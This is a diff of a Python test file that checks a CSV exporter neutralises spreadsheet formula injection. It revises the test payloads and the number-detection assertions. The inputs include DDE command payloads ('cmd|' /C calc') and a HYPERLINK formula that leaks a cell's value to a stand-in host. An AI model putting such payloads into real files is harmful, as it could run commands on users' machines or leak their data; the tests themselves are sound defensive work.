@@ -12,16 +12,15 @@ from sightline.data import Records, Table, export
 
 FORMULAS = [
     "=1+1",
-    "+1+1",
-    "-1+1",
+    "+A1",
+    "-foo",
     "@SUM(A1)",
     "=cmd|' /C calc'!A0",
     "＝1+1",
-    "＋1+1",
-    "－1+1",
+    "＋A1",
+    "－cmd|' /C calc'!A0",
     "＠SUM(A1)",
     '=HYPERLINK("http://h/?x="&A1)',
-    "+49 30 123",
     "=-1",
     "-2+3+cmd|' /C calc'!A0",
     "  =1+1",
@@ -52,7 +51,7 @@ def test_csv_neutralises_formulas_in_cells_and_headings(formula: str) -> None:
         ("a\n=1+1", "a\n'=1+1"),
         ("a\r\n@SUM(A1)", "a\r\n'@SUM(A1)"),
         ("\t=1+1", "'\t'=1+1"),
-        ("\n=1+1", "'\n'=1+1"),
+        ("\n=1+1", "\n'=1+1"),
         ("=1;=2", "'=1;'=2"),
         ("a;＝1+1", "a;'＝1+1"),
         ("1;-5;+3 %", "1;-5;+3 %"),
@@ -71,12 +70,26 @@ def test_csv_split_at_semicolons_never_starts_like_a_formula(first: str, second:
     for piece in re.split(r"[;\t\r\n]", written):
         start = piece.lstrip(' "')
         assert start[:1] not in ("=", "@")
-        if start[:1] in ("+", "-"):  # a number, perhaps with a unit, or a dash
-            assert re.fullmatch(r"[+-] ?1+ ?a{0,3}|-{1,3}", re.split('[,"]', start)[0].rstrip())
+        if start[:1] in ("+", "-"):  # a name at the start or behind an operator would run
+            assert not re.search(r"[-+=@] *a", re.split('[,"]', start)[0])
 
 
 @pytest.mark.parametrize(
-    "text", ["-5", "+1.5", "-1,234.50", "-1.234,5", "-.5", "-1e5", "a=b", 'a,"=1+1"', "%0A=1", "5-3"]
+    "text",
+    [
+        *("-5", "+1.5", "-1,234.50", "-1.234,5", "-.5", "-1e5", "a=b", 'a,"=1+1"', "%0A=1", "5-3"),
+        *(
+            "+49 30 123",
+            "+1-793-555-0100",
+            "+1 (793) 555-0100",
+            "-1+1",
+            "+5 days",
+            "-3 °C",
+            "- 5",
+            "+/-",
+            "-12-05-2024",
+        ),
+    ],
 )
 def test_csv_leaves_numbers_and_other_texts_alone(text: str) -> None:
     """A plain number stays a number, and a sign inside a text is harmless."""
@@ -131,8 +144,9 @@ def test_csv_cell_never_starts_like_a_formula(text: str) -> None:
     """After neutralising, only plain numbers begin with a sign."""
     ((_,), *body) = rows(Table.from_rows([["a"], [text]]).to_csv())
     cell = body[0][0] if body else ""
-    if cell[:1] and cell[0] in "=+-@\t\r\n＝＋－＠":
-        assert cell[0] in "+-" and set(cell[1:]) <= set("0123456789.,eE+-")
+    assert cell[:1] not in ("=", "@", "＝", "＠", "\t", "\r")
+    if cell[:1] in ("+", "-", "＋", "－"):
+        assert not re.match(r"\W*[^\W\d]", cell)
 
 
 @pytest.mark.parametrize("harmless", ["-5%", "+1.1 %", "-$300", "-3 °C", "-", "--", "-1.234,50 €"])
